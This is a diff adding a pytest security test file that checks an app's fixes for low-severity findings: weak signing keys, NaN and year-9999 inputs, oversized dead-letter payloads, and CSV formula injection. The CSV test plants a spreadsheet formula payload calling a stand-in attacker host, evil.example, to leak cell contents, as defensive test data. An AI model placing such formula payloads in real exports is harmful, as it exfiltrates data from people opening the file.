@@ -1,0 +1,82 @@
+"""Issue 17, low findings: server errors on hostile input, a weak signing key, CSV formula injection."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import psycopg
+import pytest
+
+from mimamori.config import Settings
+from test_app_support import app_client, bearer, world  # noqa: F401 (fixture)
+
+pytestmark = [pytest.mark.security]
+
+
+def test_an_empty_secret_key_file_is_refused(tmp_path: Path) -> None:
+    from mimamori import signing
+
+    (tmp_path / "secret_key").write_text("\n")
+    with pytest.raises(RuntimeError, match="secret key"):
+        signing.signer(Settings(data_dir=tmp_path), "csrf")
+    (tmp_path / "secret_key").unlink()
+    assert len(signing.secret_key(Settings(data_dir=tmp_path))) >= 32  # a missing file: a new key
+
+
+@pytest.mark.integration
+def test_nan_and_year_9999_are_invalid_input_not_server_errors(world) -> None:  # noqa: ANN001
+    url, clock, ids = world
+    with app_client(url, clock) as c:
+        h = {**bearer(c, "coord_a"), "content-type": "application/json"}
+        for method, path, body in [
+            ("PUT", "/api/alerts/chains/h1", '{"steps": NaN}'),
+            ("PUT", "/api/alerts/chains/h1", '{"steps": [{"type": "wait", "minutes": Infinity}]}'),
+            ("POST", f"/api/alerts/{ids['h1']}/resolve", '{"outcome": "away", "away_until": NaN}'),
+            ("POST", "/api/households/h1/team", '{"person_id": "watcher_a", "tier": NaN}'),
+            ("POST", "/api/households/h1/away", '{"until": "9999-12-31"}'),
+        ]:
+            r = c.request(method, path, content=body, headers=h)
+            assert r.status_code == 422, (method, path, body, r.status_code, r.text[:200])
+
+
+def test_a_residents_return_date_of_9999_is_invalid_input() -> None:
+    from alerts.models import InvalidInput
+    from alerts.resident import away_until_from_date
+
+    with pytest.raises(InvalidInput):
+        away_until_from_date("9999-12-31", "Asia/Tokyo", 1_767_225_600.0)
+
+
+@pytest.mark.integration
+def test_the_household_export_csv_runs_no_formulas(world) -> None:  # noqa: ANN001
+    url, clock, _ = world
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with psycopg.connect(url, autocommit=True) as conn:
+        conn.execute("UPDATE households SET display_name = %s WHERE household_id = 'h1'", (formula,))
+        conn.execute("UPDATE household_contacts SET address = '@SUM(1+1)' WHERE household_id = 'h1'")
+    with app_client(url, clock) as c:
+        r = c.get("/api/households/h1/export.csv?request_note=asked+by+phone", headers=bearer(c, "coord_a"))
+        assert r.status_code == 200, r.text
+    import csv
+    import io
+
+    cells = [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
+    assert "'" + formula in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")], [c for c in cells if c[:1] in ("=", "+", "@")]
+
+
+@pytest.mark.integration
+def test_a_dead_letter_keeps_only_the_head_of_a_huge_payload(pg_url: str) -> None:
+    from ingest.batch import Batch
+    from ingest.store import prepare, write_batch
+    from ingest.validate import DeadLetter
+
+    with psycopg.connect(pg_url) as conn:
+        prepare(conn)
+        b = Batch()
+        b.add(DeadLetter("mimamori/v1/gw/d/event", b"x" * 60_000, "oversized", "60000 bytes"))
+        b.add(DeadLetter("mimamori/v1/gw/d/event", b"y" * 100, "bad_json", ""))
+        write_batch(conn, b, 1_767_225_600.0)
+        rows = conn.execute("SELECT length(payload), detail FROM dead_letters ORDER BY id").fetchall()
+    assert rows[0][0] <= 4096 and "60000" in rows[0][1]
+    assert rows[1][0] == 100
